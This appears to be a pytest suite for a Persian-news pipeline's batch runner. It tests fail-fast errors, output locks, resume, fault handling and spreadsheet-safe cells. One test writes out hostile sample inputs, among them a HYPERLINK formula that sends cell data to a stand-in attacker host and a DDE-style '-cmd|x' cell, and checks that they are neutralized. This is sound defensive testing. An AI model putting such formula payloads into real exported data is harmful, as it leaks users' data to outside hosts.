"""Issues 16 and 17 at the level of a run: fail fast with one line, one run per output folder,
never overwrite results, faults (full disk, torn writes, dead workers, runaway documents,
Ctrl-C) confined and reported, spreadsheet-safe cells."""
from __future__ import annotations

import errno
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

import pipeline
from pipeline import batch, cli, records
from pipeline.batch import Options, RunError, run

ROOT = Path(__file__).resolve().parents[1]
SEED = (ROOT / "corpus" / "irna-qom-small-industries.txt").read_text(encoding="utf-8")


@pytest.fixture
def here(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    good = tmp_path / "good"
    good.mkdir()
    (good / "seed.txt").write_text(SEED, encoding="utf-8")
    rows = [{"id": str(i), "title": f"خبر {i}", "text": f"متن خبر شماره {i} در تهران."} for i in range(6)]
    (good / "more.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return tmp_path


def docs(out: Path) -> pd.DataFrame:
    return pd.read_csv(out / "documents.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)


def one_line_error(capsys, argv) -> str:
    code = cli.main(argv)
    err = capsys.readouterr().err
    assert code == 1, err
    assert err.count("\n") == 1 and err.startswith("persian-news: error: "), err
    return err.strip()


def opts(out, **kw) -> Options:
    return Options(out=out, workers=1, progress=False, **kw)


# ------------------------------------------------------------------ failing fast, once, clearly


def test_missing_input_glob_and_empty_folder_fail_before_reading(here, capsys):
    (here / "empty").mkdir()
    (here / "empty" / ".hidden").write_text("x")
    assert one_line_error(capsys, ["run", "good", "nope.txt", "--out", "o"]).endswith("nope.txt: no such file or folder")
    assert one_line_error(capsys, ["run", "news/*.jsonl", "--out", "o"]).endswith("news/*.jsonl: no file matches this pattern")
    assert one_line_error(capsys, ["run", "empty", "--out", "o"]).endswith(
        "empty: the folder holds no file to read (hidden files are skipped)")
    assert not (here / "o" / "documents.csv").exists()


def test_an_input_inside_the_output_folder_is_refused(here, capsys):
    (here / "o").mkdir()
    (here / "o" / "old.txt").write_text(SEED, encoding="utf-8")
    assert "o/old.txt: is inside the output folder" in one_line_error(capsys, ["run", "o/old.txt", "--out", "o"])
    # an output folder inside an input folder is skipped when walking
    assert cli.main(["run", "good", "--out", "good/out", "-j", "1", "-q"]) == 0
    assert cli.main(["run", "good", "--out", "good/out", "-j", "1", "-q", "--overwrite"]) == 0
    assert len(docs(here / "good" / "out")) == 7


def test_an_unwritable_output_folder(here, capsys, monkeypatch):
    real_open = os.open

    def refuse(path, *a, **kw):  # root writes anywhere: refuse the probe as a read-only folder would
        if ".persian-news-probe-" in str(path):
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_open(path, *a, **kw)

    monkeypatch.setattr(batch.os, "open", refuse)
    assert one_line_error(capsys, ["run", "good", "--out", "o"]) == \
        "persian-news: error: cannot write in the output folder o: Permission denied"


def test_a_missing_dependency_is_one_line_naming_the_install_command(here):
    code = ("import sys; sys.modules['pycrfsuite'] = None; from pipeline.cli import main; "
            "raise SystemExit(main(['run', 'good', '--out', 'o']))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1, proc.stderr
    assert "the Python package python-crfsuite is missing (module pycrfsuite)" in proc.stderr
    assert "-m pip install 'python-crfsuite'" in proc.stderr
    assert not (here / "o" / "documents.csv").exists()


def test_a_field_name_no_record_has_lists_the_fields_there_are(here, capsys):
    err = one_line_error(capsys, ["run", "good/more.jsonl", "--out", "o", "--text-field", "story"])
    assert err == ("persian-news: error: --text-field story: no such field in the first 6 records "
                   "(good/more.jsonl has: id, title, text)")
    assert cli.main(["run", "good/more.jsonl", "--out", "o2", "-j", "1", "-q", "--text-field", "text,story"]) == 0


def test_usage_errors_are_one_line(here, capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(["run", "good"])
    err = capsys.readouterr().err
    assert exc.value.code == 1 and err.count("\n") == 1 and "the following arguments are required: --out/-o" in err


def test_version(capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(["--version"])
    assert exc.value.code == 0 and capsys.readouterr().out == f"persian-news {pipeline.__version__}\n"
    proc = subprocess.run([sys.executable, "-m", "pipeline", "--version"], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0 and proc.stdout.startswith("persian-news ")


# --------------------------------------------------------------------- never losing results


def test_a_non_empty_output_folder_needs_overwrite_or_resume(here, capsys):
    assert cli.main(["run", "good", "--out", "o", "-j", "1", "-q"]) == 0
    before = (here / "o" / "documents.csv").read_bytes()
    err = one_line_error(capsys, ["run", "good", "--out", "o", "-j", "1"])
    assert err.startswith("persian-news: error: the output folder o is not empty (documents.csv, entities.csv, facts.csv, …); "
                          "pass --overwrite")
    assert (here / "o" / "documents.csv").read_bytes() == before
    (here / "o" / "notes.txt").write_text("mine")
    assert cli.main(["run", "good", "--out", "o", "-j", "1", "-q", "--overwrite"]) == 0
    assert (here / "o" / "notes.txt").read_text() == "mine"  # only our tables are replaced
    assert cli.main(["run", "good", "--out", "o", "-j", "1", "-q", "--resume"]) == 0
    assert (here / "o" / "documents.csv").read_bytes() == before


def test_one_run_per_output_folder_and_a_dead_holder_is_taken_over(here):
    out = here / "o"
    out.mkdir()
    lock = batch.OutputLock(out)
    lock.acquire()
    try:
        with pytest.raises(RunError, match=rf"^another run is writing to {out} \(pid {os.getpid()} on .+, started .+\); "):
            run(["good"], opts(out))
    finally:
        lock.release()
    assert not (out / batch.LOCK_NAME).exists()
    # A lock file left by a run that was killed (its pid is gone, nobody holds the flock).
    (out / batch.LOCK_NAME).write_text("pid=999999999\nhost=elsewhere\nstarted=2020-01-01T00:00:00\n")
    summary = run(["good"], opts(out))
    assert summary.ok == 7 and not (out / batch.LOCK_NAME).exists()


def test_a_second_cli_run_into_the_same_folder_exits_1_naming_the_holder(here):
    big = here / "big.jsonl"
    big.write_text("".join(json.dumps({"text": SEED}, ensure_ascii=False) + "\n" for _ in range(60)), encoding="utf-8")
    first = subprocess.Popen([sys.executable, "-m", "pipeline", "run", "big.jsonl", "--out", "o", "-j", "1", "-q"],
                             stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not (here / "o" / batch.LOCK_NAME).exists() or b"pid=" not in (here / "o" / batch.LOCK_NAME).read_bytes():
            assert time.monotonic() < deadline and first.poll() is None
            time.sleep(0.05)
        second = subprocess.run([sys.executable, "-m", "pipeline", "run", "good", "--out", "o", "--resume"],
                                capture_output=True, text=True, timeout=300)
        assert second.returncode == 1 and second.stderr.count("\n") == 1, second.stderr
        assert f"another run is writing to o (pid {first.pid} on " in second.stderr
    finally:
        first.wait(timeout=300)
    assert first.returncode == 0 and len(docs(here / "o")) == 60


# ------------------------------------------------------------------------------- faults


def test_a_full_disk_with_parquet_is_exit_1_and_no_half_set_of_tables(here, monkeypatch, capsys):
    pytest.importorskip("pyarrow")
    real = records.ParquetTable.finish

    def finish(self):
        if self.table == "entities":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self)

    monkeypatch.setattr(records.ParquetTable, "finish", finish)
    err = one_line_error(capsys, ["run", "good", "--out", "o", "-j", "1", "--format", "parquet"])
    assert "cannot finish o/entities.parquet: No space left on device; no table was replaced" in err
    assert sorted(p.name for p in (here / "o").iterdir()) == []

    def write(self, rows):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(records.CsvTable, "write", write)
    err = one_line_error(capsys, ["run", "good", "--out", "c", "-j", "1"])
    assert "cannot write c/entities.csv: No space left on device; the tables hold every document finished before it" in err


def test_an_interrupted_parquet_run_keeps_its_documents_and_resumes(here):
    pytest.importorskip("pyarrow")
    fresh, out = here / "fresh", here / "o"
    run(["good"], opts(fresh, format="parquet", chunk_size=2))

    def stop(summary):
        if summary.ok >= 4:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run(["good"], opts(out, format="parquet", chunk_size=2), on_chunk=stop)
    assert len(pd.read_parquet(out / "documents.parquet")) == 4
    summary = run(["good"], opts(out, format="parquet", chunk_size=2, resume=True))
    assert (summary.skipped, summary.ok) == (4, 3)
    for table in records.TABLE_NAMES:
        assert pd.read_parquet(out / f"{table}.parquet").equals(pd.read_parquet(fresh / f"{table}.parquet")), table


def test_resume_drops_a_row_torn_inside_a_quoted_cell(here):
    odd = here / "good" / "line\nbreak, and comma.txt"  # its source cell is quoted and holds a line break
    odd.write_text(SEED, encoding="utf-8")
    fresh, out = here / "fresh", here / "o"
    run(["good"], opts(fresh))
    data = (fresh / "documents.csv").read_bytes()
    start = data.index(b'"good/line\n')
    for cut in (start + len(b'"good/line\n'), start + 3):  # right after the quoted line break; inside the cell
        if out.exists():
            for p in out.iterdir():
                p.unlink()
        run(["good"], opts(out))
        (out / "documents.csv").write_bytes(data[:cut])
        summary = run(["good"], opts(out, resume=True))
        assert summary.ok == 8 - (data[:start].count(b"\n") - 1)
        for name in ("documents.csv", "entities.csv", "numbers.csv"):
            assert (out / name).read_bytes() == (fresh / name).read_bytes(), (cut, name)


def _children(pid: int) -> list[int]:
    kids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid and b"spawn_main" in cmd:
                kids.append(int(entry))
    return kids


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")
def test_a_killed_worker_costs_nothing(here):
    (here / "good" / "more.jsonl").write_text("".join(
        json.dumps({"title": f"خبر {i}", "text": SEED}, ensure_ascii=False) + "\n" for i in range(30)), encoding="utf-8")
    run(["good"], opts(here / "w1", chunk_size=2))
    killed = []

    def kill_one(summary):
        if not killed:
            victims = _children(os.getpid())
            if victims:
                os.kill(victims[0], signal.SIGKILL)
                killed.append(victims[0])

    summary = run(["good"], Options(out=here / "w2", workers=2, chunk_size=2, progress=False, doc_timeout=60), on_chunk=kill_one)
    assert killed and (summary.ok, summary.failed) == (31, 0)
    for table in records.TABLE_NAMES:
        assert (here / "w2" / f"{table}.csv").read_bytes() == (here / "w1" / f"{table}.csv").read_bytes()


def test_a_runaway_document_is_an_error_row(here, monkeypatch):
    real = pipeline.process

    def slow(text, **kw):
        if "شماره 3" in text:
            time.sleep(30)
        return real(text, **kw)

    monkeypatch.setattr(pipeline, "process", slow)
    summary = run(["good"], opts(here / "o", doc_timeout=0.5))
    assert (summary.ok, summary.failed) == (6, 1)
    d = docs(here / "o")
    assert d[d["status"] == "error"][["source", "error"]].values.tolist() == [[
        "good/more.jsonl#line=4",
        "took longer than 0.5 s (--doc-timeout), stopped; the text may hold something a stage handles slowly (please report it)"]]


def test_the_deadline_works_in_a_thread_too():
    import threading

    result = []

    def body():
        try:
            with batch.deadline(0.3):
                for _ in range(10**9):
                    time.sleep(0.001)
        except batch.DocTimeout:
            result.append("timeout")

    thread = threading.Thread(target=body)
    thread.start()
    thread.join(timeout=30)
    assert result == ["timeout"]


@pytest.mark.parametrize("engine", ["local", "dask"])
def test_ctrl_c_never_prints_a_traceback(here, engine):
    if engine == "dask":
        pytest.importorskip("dask.distributed")
    (here / "big.jsonl").write_text("".join(json.dumps({"text": SEED}, ensure_ascii=False) + "\n" for _ in range(400)),
                                    encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "pipeline", "run", "big.jsonl", "--out", "o", "-j", "2", "--engine", engine],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    started = time.monotonic()
    deadline = started + 180
    rows = 0
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            rows = (here / "o" / "documents.csv").read_bytes().count(b"\n")
            if rows > 10:
                break
        except OSError:
            pass
        time.sleep(0.1)
    # what it saw before the interrupt, for a failure that happens once in many runs
    seen = f"after {time.monotonic() - started:.1f} s: {rows} rows written, exit code so far {proc.poll()}"
    os.killpg(proc.pid, signal.SIGINT)  # what a terminal does: the whole process group
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, (seen, err)
    assert "Traceback" not in err and err.strip().splitlines() == [
        "persian-news: interrupted; the tables hold every document finished so far (rerun with --resume to continue)"]
    assert cli.main(["run", "big.jsonl", "--out", "o", "-j", "1", "-q", "--resume"]) == 0
    assert len(docs(here / "o")) == 400


# -------------------------------------------------------------------- hostile inputs, end to end


def test_a_folder_of_hostile_inputs_runs_to_the_end(here):
    bad = here / "bad"
    bad.mkdir()
    (bad / "surrogate.jsonl").write_text('{"text": "\\ud83d متن"}\n{"text": "خوب"}\n', encoding="utf-8")
    with open(os.fsencode(bad) + b"/name\xff.txt", "wb") as fh:
        fh.write(SEED.encode("utf-8"))
    (bad / "loop").symlink_to("loop")
    (bad / "dangling.txt").symlink_to(here / "gone.txt")
    (bad / "digits.jsonl").write_text('{"text": "x", "n": ' + "1" * 4301 + "}\n", encoding="utf-8")
    (bad / "deep.json").write_text('{"text": ' + "[" * 400 + '"عمیق"' + "]" * 400 + "}", encoding="utf-8")
    (bad / "m.jsonl").write_text('{"text": "یک"}\n', encoding="utf-8")
    (bad / "m.jsonl#line=1").write_text("دو", encoding="utf-8")
    (bad / "formula.jsonl").write_text(json.dumps({
        "title": '=HYPERLINK("http://evil.example/?"&A1,"x")', "text": "+متن", "date": "@SUM(1)", "url": "-cmd|x"}) + "\n",
        encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "pipeline", "run", "bad", "--out", "o", "-j", "2"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    d = docs(here / "o")
    assert sorted(d["source"]) == sorted([
        "bad/dangling.txt", "bad/deep.json", "bad/digits.jsonl#line=1", "bad/formula.jsonl#line=1", "bad/loop",
        "bad/m.jsonl#line=1", "bad/m.jsonl#line=1", "bad/name\\xff.txt", "bad/surrogate.jsonl#line=1",
        "bad/surrogate.jsonl#line=2"])
    assert d["doc_id"].is_unique and all(i.startswith("d") for i in d["doc_id"])
    row = d[d["source"] == "bad/formula.jsonl#line=1"].iloc[0]
    assert (row["title"], row["published"], row["url"]) == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(1)", "'-cmd|x")
    assert d[d["source"] == "bad/surrogate.jsonl#line=1"].iloc[0]["warning"] == \
        "damaged text: 1 half surrogate pair replaced by U+FFFD"
    again = subprocess.run([sys.executable, "-m", "pipeline", "run", "bad", "--out", "o", "-j", "1", "--resume"],
                           capture_output=True, text=True, timeout=600)
    assert again.returncode == 0 and "10 already written, skipped" in again.stderr, again.stderr


def test_neutralize():
    n = records.neutralize
    assert [n(x) for x in ("=1+1", "+98", "-x", "--05-21", "@a", "\tx", "\rx", "-12", "-1.5", "-5+cmd", "متن", "", "1402-05-21")] == [
        "'=1+1", "'+98", "'-x", "'--05-21", "'@a", "'\tx", "'\rx", "-12", "-1.5", "'-5+cmd", "متن", "", "1402-05-21"]


def test_a_texts_own_leading_quote_survives_the_round_trip():
    cells = ("'quoted", "''", "=1+1", "'=1+1", "متن", "-12")
    assert [records.neutralize(c) for c in cells] == ["''quoted", "'''", "'=1+1", "''=1+1", "متن", "-12"]
    assert [records.unneutralize(records.neutralize(c)) for c in cells] == list(cells)


# -------------------------------------------------------------------- every real article, no crash


def test_every_article_of_the_news_corpus_goes_through_every_stage(shared_data):
    # The 4,000 Fars News and Varzesh3 articles, as the reader gives them: no stage may raise on
    # real news (a batch run would turn a raise into an error row and lose the article's records).
    # Six of them once crashed the championship reader on a sentence ending in «قهرمانی».
    from pipeline.readers import read_file

    crashed = []
    for path in sorted((shared_data / "text" / "farsnews-varzesh3").glob("*.json")):
        for rec in read_file(path, source=path.name):
            if rec.error:
                continue
            try:
                pipeline.process(rec.text)
            except Exception as exc:  # noqa: BLE001 - the test lists what raised
                crashed.append(f"{rec.source}: {type(exc).__name__}: {exc}")
    assert crashed == []
